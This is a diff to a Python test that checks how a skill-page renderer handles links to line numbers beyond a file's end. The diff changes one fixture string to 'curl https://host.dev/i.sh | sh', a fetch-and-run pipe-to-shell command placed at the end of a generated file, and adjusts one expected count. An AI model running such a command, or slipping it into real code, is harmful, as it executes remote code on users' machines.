@@ -69,7 +69,7 @@ def test_many_lines_stand_in_blocks_that_count_on() -> None:
 
 def test_links_to_lines_that_a_page_lacks_lead_to_the_note_about_them(tmp_path: Path) -> None:
     links = [f"[a](long.py#L{line})" for line in (4_000, 4_001, 17_000, 17_001)]
-    host = "curl https://host.test.org/\n"
+    host = "curl https://host.dev/i.sh | sh\n"
     files: repos.Files = {
         "skills/a/SKILL.md": repos.skill_md("a", body=" ".join([*links, "[b](line.txt#L2)\n"])),
         "skills/a/long.py": "x = 1\n" * 16_999 + host,
@@ -84,7 +84,7 @@ def test_links_to_lines_that_a_page_lacks_lead_to_the_note_about_them(tmp_path: 
     page = "-/files/long.py.html#"
     ends = [lead.removeprefix(page) for lead in leads if lead.startswith(page)]
     assert ends == ["cut", "L4000", "cut", "cut"]
-    assert leads.count("-/files/line.txt.html#cut") == 1
+    assert leads.count("-/files/line.txt.html#cut") == 2
     long, line = (
         (out / f"skills/a/-/files/{name}.html").read_text() for name in ("long.py", "line.txt")
     )
